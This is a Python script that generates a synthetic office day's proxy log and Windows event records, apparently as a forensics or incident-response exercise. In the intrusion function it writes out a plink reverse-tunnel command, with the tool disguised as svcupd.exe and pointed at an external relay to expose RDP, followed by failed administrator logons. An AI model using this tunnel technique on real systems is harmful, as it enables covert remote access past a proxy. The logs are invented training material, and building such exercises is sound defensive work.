#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes access.log and events/: an office day, 3 September 2025, on which somebody sat at a PC through a tunnel.

The events are those that Windows writes of it, exported from the Event Viewer; everything else is made up.
"""

import calendar
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))
sys.dont_write_bytecode = True

import decoys         # noqa: E402
import squid          # noqa: E402
import traffic        # noqa: E402
import windows        # noqa: E402
import windows_forms  # noqa: E402

ZONE = 9 * 60
MIDNIGHT = calendar.timegm((2025, 9, 3, 0, 0, 0)) - ZONE * 60
VICTIM, USER = '10.30.1.24', 's.nomura'
PROXY = ('10.30.0.8', 3128)
RELAY = 'cdn.yama-kumo.click:443'
AHEAD = 83                       # the PC's clock, in seconds
PLINK = 'C:\\Users\\Public\\Music\\svcupd.exe'     # plink under another name
STATION = 'DESKTOP-3KQ9F0A'
CHROME_PATH = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'
SVCHOST = 'C:\\Windows\\System32\\svchost.exe'

CHROME = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36' % version
          for version in (139, 138, 138)]
EDGE = ['%s Edg/%d.0.0.0' % (CHROME[0], version) for version in (139, 138)]
WORDS = 'kawara tsumugi hozumi shiori tokiwa mikage akari soyogi nanase hibiki yukari chigusa'.split()


def at(clock):
    hours, minutes, seconds = clock.split(':')
    return MIDNIGHT + int(hours) * 3600 + int(minutes) * 60 + float(seconds)


def office(dice):
    return [traffic.Client('10.30.1.%d' % number, [dice.pick(CHROME), dice.pick(EDGE)], at('08:20:00') + dice.between(0, 2400),
                           at('17:20:00') + dice.between(0, 3600)) for number in range(21, 33)]


def innocent(log, dice, clients):
    sites = []
    for rank in range(48):
        domain = '%s-%s.%s' % (WORDS[rank % 12], ('shinbun', 'ichiba', 'bunko', 'annai')[rank // 12], ('jp', 'com', 'net')[rank % 3])
        sites.append(traffic.Site('www.' + domain, ['img.' + domain] if rank % 2 else [], ['lib.tabane-cdn.net'], dice.chance(0.9),
                                  60.0 / (rank + 1)))
    web, day = traffic.Web(sites), (at('08:20:00'), at('18:00:00'))
    for client in clients:
        traffic.browse(log, dice.apart(client.address), client, web, MIDNIGHT, pause=420)
    others = [client for client in clients if client.address != VICTIM]
    decoys.endpoint_security(log, dice.apart('a'), clients, 'agent.tate-mamori.com', day, every=1900)
    decoys.push_keepalive(log, dice.apart('b'), others, 'mtalk.yobirin-push.net', day)
    decoys.video_call(log, dice.apart('c'), others, 'rtc.taimen-kaigi.com', day)
    decoys.jump_host(log, dice.apart('d'), others, 'ssh.kanri-fumidai.net', day, '-')
    decoys.mail_and_chat(log, dice.apart('e'), others, 'imap.tegami-azukari.net', 'im.sasayaki-chat.org', day, '-', '-')
    decoys.odd_widget(log, dice.apart('f'), others, 'api.kabu-koneta.io', day)


def ordinary(pc, rows):
    """What the logs of this PC are full of: its user, Windows' services, the administrator in the morning."""
    dice = pc.dice
    pc.console_logon(at('08:31:12'))
    when = at('08:30:00')
    while when < at('18:00:00'):
        pc.logon_event(when, 'SYSTEM', 5, '0x3e7', '-', '-', '-', 'services.exe', by='Advapi  ')
        when += 600 + dice.wait(1200)
    for clock in ('09:58:40', '12:51:07', '15:20:33'):
        pc.logon_event(at(clock), USER, 7, pc.new_logon(), '127.0.0.1', '0')
    for clock in ('08:45:00', '11:30:00', '14:10:00', '16:40:00'):
        logon = pc.new_logon()
        pc.logon_event(at(clock), pc.name + '$', 3, logon, '::1', '0', '-', package='Kerberos', by='Kerberos')
        pc.logoff_event(at(clock) + 8, pc.name + '$', 3, logon)
    seen = set()
    for row in rows:
        if row.client == VICTIM and row.port not in seen and row.url != RELAY:
            seen.add(row.port)
            pc.connection((row.end - row.duration) / 1000 - 0.02, CHROME_PATH, 7204, (VICTIM, row.port), PROXY)
    address, name, user = '10.30.0.71', 'KANRI-PC01', 'adm.kudo'
    activity = pc.rdp_accept(at('09:05:02'), address + ':52217')
    pc.rdp_authenticate(at('09:05:06'), user, address, name, activity, 9)
    session, logon = pc.rdp_logon(at('09:05:08'), user, address, '0', name, activity)
    pc.rdp_disconnect(at('09:21:40'), user, address, name, activity, session, logon)
    pc.rdp_logoff(at('09:21:41'), user, session, logon)


def come_in(pc, process, clock, user):
    """A connection that plink makes to this PC's own port 3389: what RDP sees is 127.0.0.1."""
    port, when = 49700 + pc.dice.whole(0, 9000), at(clock)
    pc.connection(when, PLINK, process, ('127.0.0.1', port), ('127.0.0.2', 3389))
    pc.connection(when + 0.01, SVCHOST, 1048, ('127.0.0.2', 3389), ('127.0.0.1', port), False)
    return pc.rdp_accept(when + 0.02, '127.0.0.1:%d' % port), port


def intrusion(log, pc):
    """One tunnel from 10:02 to 16:20; wrong passwords, a visit, another after lunch, until the line is cut."""
    row = log.tunnel(at('10:02:17.4'), at('16:20:36.9') - at('10:02:17.4'), VICTIM, RELAY, '-', 96_214_770, 5_390_118)
    squid.ports([row], pc.dice.apart('port'))
    process = pc.start(at('10:02:16.9'), PLINK, PLINK + ' -N -P 443 -R 127.0.0.3:4444:127.0.0.2:3389 -l backup -pw ******** host7',
                       parent='C:\\Windows\\System32\\cmd.exe')
    pc.connection(at('10:02:17.38'), PLINK, process, (VICTIM, row.port), PROXY)
    for clock in ('10:06:30', '10:06:52', '10:07:11'):
        activity, _ = come_in(pc, process, clock, 'administrator')
        pc.failed_logon(at(clock) + 3, 'administrator', 3, '127.0.0.1', '0', STATION)
        pc.log(at(clock) + 3.1, 'rdp', 140, activity, IPString='127.0.0.1')
        pc.log(at(clock) + 3.2, 'rdp', 102, activity)
    session = None
    for begin, end in (('10:09:05', '11:54:20'), ('13:02:48', '16:20:37')):
        activity, port = come_in(pc, process, begin, USER)
        pc.rdp_authenticate(at(begin) + 4, USER, '127.0.0.1', STATION, activity, 3)
        session, logon = pc.rdp_logon(at(begin) + 6, USER, '127.0.0.1', str(port), STATION, activity, session)
        pc.rdp_disconnect(at(end) + 0.2, USER, '127.0.0.1', STATION, activity, session, logon)


def main():
    folder = sys.argv[1] if len(sys.argv) > 1 else HERE
    dice, log = squid.Dice(20250903), squid.Log()
    clients = office(dice)
    innocent(log, dice, clients)
    pc = windows.Computer(dice.apart('pc'), 'SOMU-PC04', 'MIDORI', VICTIM, USER, AHEAD, ('wfp', 'process'))
    begin, end = at('08:00:00'), at('18:00:00')
    squid.ports(log.within(begin, end), dice.apart('ports'))
    ordinary(pc, log.within(begin, end))
    intrusion(log, pc)
    events = [event for event in pc.finish() if event.ticks < (end + AHEAD) * 10 ** 7]
    windows_forms.write(os.path.join(folder, 'events'), events, 'xml')
    path = os.path.join(folder, 'access.log')
    squid.write(path + '.part', log.within(begin, end), 'recommended')
    os.replace(path + '.part', path)


if __name__ == '__main__':
    main()
